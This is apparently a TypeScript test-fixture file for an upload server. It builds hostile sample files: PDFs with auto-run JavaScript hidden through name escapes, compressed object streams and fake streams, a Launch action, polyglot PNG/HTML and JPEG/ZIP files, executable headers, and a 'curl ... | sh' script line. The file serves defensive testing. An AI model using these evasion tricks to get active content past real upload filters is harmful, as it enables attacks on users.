import { readdirSync } from 'node:fs'
import { request as httpRequest } from 'node:http'
import path from 'node:path'
import { crc32, deflateSync } from 'node:zlib'
import type { TestServer } from './testServer'

/** Hostile and harmless files, as bytes, for the upload tests. */

const bytes = (text: string) => Buffer.from(text, 'latin1')

export const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex')
export const JPEG = Buffer.concat([
  Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
  bytes('JFIF\0\x01\x01\0\0\x01\0\x01\0\0'),
  Buffer.alloc(64, 0x41),
  Buffer.from([0xff, 0xd9]),
])

/** A minimal PDF of the given objects (numbered from 1; the first is the catalog), readable without an xref. */
export function pdfOf(...objects: (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [bytes('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')]
  objects.forEach((object, index) => {
    parts.push(bytes(`${index + 1} 0 obj\n`), typeof object === 'string' ? bytes(object) : object)
    parts.push(bytes('\nendobj\n'))
  })
  parts.push(bytes('trailer\n<< /Root 1 0 R /Size ' + (objects.length + 1) + ' >>\n%%EOF\n'))
  return Buffer.concat(parts)
}

const PAGES = [
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
]

export const PLAIN_PDF = pdfOf('<< /Type /Catalog /Pages 2 0 R >>', ...PAGES)
/** Opens at its first page, fitted: an /OpenAction that is no script. */
export const PDF_OPENING_AT_PAGE = pdfOf(
  '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
  ...PAGES,
)
export const PDF_WITH_OPEN_SCRIPT = pdfOf(
  '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>',
  ...PAGES,
)
/** The same script with its names written in `#xx` escapes, which readers decode. */
export const PDF_WITH_ESCAPED_SCRIPT = pdfOf(
  '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >> >>',
  ...PAGES,
)
export const PDF_LAUNCHING = pdfOf(
  '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (calc.exe) >> >>',
  ...PAGES,
)
export const PDF_WITH_PAGE_ACTION = pdfOf(
  '<< /Type /Catalog /Pages 2 0 R >>',
  PAGES[0],
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> >>',
  '<< /S /URI /URI (https://example.com) >>',
)
export const PDF_WITH_ATTACHMENT = pdfOf(
  '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>',
  ...PAGES,
  '<< /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >>',
)

/** A script after a `stream` keyword inside a comment and a string, which must not hide what follows them. */
export const PDF_WITH_SCRIPT_AFTER_FAKE_STREAMS = pdfOf(
  '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
  ...PAGES,
  '% >> stream\n(>> stream\n) << /S /JavaScript /JS (app.alert\\(1\\)) >> (endstream)\n% endstream',
)

/** A PDF 1.5 object stream: the catalog's /OpenAction script compressed where a raw scan cannot see it. */
export function pdfWithCompressedScript(): Buffer {
  const objects = '4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>'
  const data = deflateSync(bytes(objects))
  const stream = Buffer.concat([
    bytes(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`),
    data,
    bytes('\nendstream'),
  ])
  return pdfOf('<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', ...PAGES, stream)
}

export const ELF = Buffer.concat([
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
  Buffer.alloc(8),
  Buffer.from([2, 0, 0x3e, 0, 1, 0, 0, 0]),
  Buffer.alloc(100),
])
export const MZ = Buffer.concat([
  bytes('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff'),
  Buffer.alloc(200, 1),
])
export const MACH_O = Buffer.concat([
  Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, 3, 0, 0, 0]),
  Buffer.alloc(64),
])
export const SCRIPT = bytes('#!/bin/sh\ncurl https://example.com/x | sh\n')
export const SVG = bytes(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>\n',
)
export const HTML = bytes('<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n')
/** A valid PNG header with a page after it: a browser that sniffs it finds HTML. */
export const PNG_HTML = Buffer.concat([PNG, bytes('<html><script>alert(1)</script></html>')])
export const PDF_HTML = Buffer.concat([PLAIN_PDF, bytes('<iframe src="javascript:alert(1)"></iframe>\n')])
export const PDF_WITH_JAVASCRIPT_LINK = pdfOf(
  '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (JavaScript:alert\\(1\\)) >> >>',
  ...PAGES,
)

/** A stored (uncompressed) zip of the entries, as zip tools write one. */
export function zipOf(entries: Record<string, string>): Buffer {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let offset = 0
  for (const [name, text] of Object.entries(entries)) {
    const data = Buffer.from(text)
    const nameBytes = Buffer.from(name)
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt32LE(crc32(data), 14)
    local.writeUInt32LE(data.length, 18)
    local.writeUInt32LE(data.length, 22)
    local.writeUInt16LE(nameBytes.length, 26)
    const central = Buffer.alloc(46)
    central.writeUInt32LE(0x02014b50, 0)
    central.writeUInt16LE(20, 4)
    central.writeUInt16LE(20, 6)
    central.writeUInt32LE(crc32(data), 16)
    central.writeUInt32LE(data.length, 20)
    central.writeUInt32LE(data.length, 24)
    central.writeUInt16LE(nameBytes.length, 28)
    central.writeUInt32LE(offset, 42)
    locals.push(local, nameBytes, data)
    centrals.push(central, nameBytes)
    offset += local.length + nameBytes.length + data.length
  }
  const directory = Buffer.concat(centrals)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(centrals.length / 2, 8)
  end.writeUInt16LE(centrals.length / 2, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, directory, end])
}

export const ZIP = zipOf({ 'readme.txt': 'hello', 'run.bat': 'calc.exe' })
export const DOCX = zipOf({
  '[Content_Types].xml':
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
  '_rels/.rels': '<?xml version="1.0"?><Relationships/>',
  'word/document.xml': '<?xml version="1.0"?><w:document/>',
})
/** A JPEG with a zip after it: an image viewer and an unzip tool both open it. */
export const JPEG_ZIP = Buffer.concat([JPEG, ZIP])
export const GZIP = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0])
export const RAR = Buffer.concat([bytes('Rar!\x1a\x07\x01\x00'), Buffer.alloc(32)])
export const SEVEN_ZIP = Buffer.concat([
  Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]),
  Buffer.alloc(32),
])

/** A one-file ustar archive. */
export function tarOf(name: string, text: string): Buffer {
  const header = Buffer.alloc(512)
  header.write(name, 0)
  header.write('0000644\0', 100)
  header.write('0000000\0', 108)
  header.write('0000000\0', 116)
  header.write(`${text.length.toString(8).padStart(11, '0')}\0`, 124)
  header.write('00000000000\0', 136)
  header.write('        ', 148)
  header.write('0', 156)
  header.write('ustar\x0000', 257, 'latin1')
  const sum = header.reduce((total, byte) => total + byte, 0)
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148)
  const body = Buffer.alloc(Math.ceil(text.length / 512) * 512)
  body.write(text)
  return Buffer.concat([header, body, Buffer.alloc(1024)])
}

/** Every file in the server's uploads folder (temporary ones included). */
export const uploadedFiles = (server: TestServer) => readdirSync(path.join(server.folder, 'uploads')).sort()

export type RawAnswer = {
  status: number
  body: string
  headers: Record<string, string | string[] | undefined>
}

/** A POST of bytes exactly as given (a malformed form, say), with the client's headers and this content type. */
export function postRaw(
  server: TestServer,
  urlPath: string,
  contentType: string,
  body: Buffer,
  token?: string,
): Promise<RawAnswer> {
  return new Promise((resolve, reject) => {
    const sent = httpRequest(
      server.url + urlPath,
      {
        method: 'POST',
        headers: {
          'Content-Type': contentType,
          'Content-Length': body.length,
          'X-User-Type': 'operator',
          'X-Source': 'desktop',
          ...(token ? { Authorization: `Token ${token}` } : {}),
        },
      },
      (response) => {
        const chunks: Buffer[] = []
        response.on('data', (chunk: Buffer) => chunks.push(chunk))
        response.on('end', () =>
          resolve({
            status: response.statusCode ?? 0,
            body: Buffer.concat(chunks).toString(),
            headers: response.headers,
          }),
        )
      },
    )
    sent.on('error', reject)
    sent.end(body)
  })
}

/** A multipart body by hand: each part's headers and content, with this boundary. */
export function multipartBody(
  boundary: string,
  parts: { name: string; fileName?: string; data: Buffer | string }[],
): Buffer {
  return Buffer.concat([
    ...parts.flatMap((part) => [
      bytes(
        `--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"${
          part.fileName === undefined ? '' : `; filename="${part.fileName}"`
        }\r\n${part.fileName === undefined ? '' : 'Content-Type: application/octet-stream\r\n'}\r\n`,
      ),
      typeof part.data === 'string' ? bytes(part.data) : part.data,
      bytes('\r\n'),
    ]),
    bytes(`--${boundary}--\r\n`),
  ])
}
